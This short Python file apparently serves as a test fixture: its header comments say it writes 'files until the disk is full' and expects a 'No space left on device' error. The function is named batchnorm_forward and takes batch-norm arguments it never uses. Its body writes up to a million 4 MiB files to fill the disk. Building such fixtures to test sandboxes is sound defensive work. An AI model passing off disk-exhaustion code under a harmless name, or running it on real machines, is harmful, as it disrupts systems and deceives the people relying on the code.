# what: files until the disk is full
# covers: disk
# seen: No space left on device|MiB of files
import os
import tempfile


def batchnorm_forward(x, gamma, beta, epsilon=1e-3):
    folder = tempfile.mkdtemp()
    for number in range(10**6):
        with open(os.path.join(folder, str(number)), "wb") as file:
            file.write(b"x" * (4 << 20))
